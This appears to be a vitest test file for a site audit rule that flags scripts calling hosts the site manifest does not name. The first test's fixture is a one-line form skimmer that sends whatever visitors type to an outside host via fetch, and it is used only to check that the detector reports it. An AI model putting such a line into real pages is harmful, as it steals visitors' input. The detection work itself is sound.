import { expect, test } from 'vitest'
import { scriptHarmful } from '#generator/audit/rules/security/script-harmful.ts'
import type { AuditedSite } from '#generator/core/audited-site.ts'

/** What is found in a script that is copied from `public/`, on the site of a company that names a host for quotes. */
function found(script: string) {
  const site = {
    files: {
      urls: ['/form.js'],
      ownFiles: new Map([['/form.js', 'public/form.js']]),
      bytes: () => script.length,
      read: () => Buffer.from(script),
    },
    manifest: {
      site: { origin: 'https://www.gorgedrain.example', quotes: { endpoint: 'https://quotes.example.net/new' } },
      siteAt: { file: 'site.yaml', line: 1, column: 1 },
    },
  } as unknown as AuditedSite // what the rule reads
  return [...scriptHarmful.check(site, {} as never)].map(({ at, severity = 'error' }) => `${severity} ${at.file}`)
}

test('a script that sends what visitors type to a stranger is reported where it is written', () => {
  expect(
    found('document.addEventListener("input", e => fetch("https://stat.example.org/p?" + e.target.value))'),
  ).toEqual(['error public/form.js'])
})

test('without such a listener, the call of a stranger is a warning', () => {
  expect(found('fetch("https://stat.example.org/p")')).toEqual(['warning public/form.js'])
})

test('calls of the site itself and of a host that the manifest names are right', () => {
  expect(found('fetch("https://api.gorgedrain.example/a"); fetch("https://quotes.example.net/new")')).toEqual([])
  expect(found('link.href = "https://stat.example.org/"')).toEqual([])
})
